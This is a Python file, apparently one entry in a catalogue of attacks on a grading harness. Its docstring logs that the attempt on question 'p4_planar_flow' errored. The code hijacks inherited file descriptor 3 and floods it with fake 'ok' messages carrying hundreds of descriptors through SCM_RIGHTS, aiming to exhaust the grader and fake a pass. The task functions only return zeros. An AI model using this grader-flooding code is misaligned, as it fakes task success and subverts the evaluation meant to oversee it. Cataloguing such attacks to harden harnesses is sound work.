"""Sends open files to the grader with every answer, until it has no room for more.

Catalogue: 34
Question: p4_planar_flow
Comes to: h_fn FAILED/ERRORED, h_prime_fn FAILED/ERRORED, base_density FAILED/ERRORED
Seconds: 6
Not stopped by: nothing
"""

import array
import os
import socket
import struct

import torch


def flood(times):
    line = socket.socket(fileno=os.dup(3))
    files = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))]
    payload = b"\x93\x00\xa2ok\xc3"
    for _ in range(times):
        line.sendmsg([struct.pack("<Q", len(payload)) + payload], rights)
    for file in files:
        os.close(file)


def h(a):
    flood(1)
    return torch.zeros_like(a)


def h_prime(a):
    flood(50)
    return torch.zeros_like(a)


def q0(z):
    inner, outer = socket.socketpair()
    for end in (inner, outer):
        rights = [(1, socket.SCM_RIGHTS, array.array("i", [inner.fileno(), 3]))]
        end.sendmsg([b"x"], rights)
    return torch.zeros(len(z))
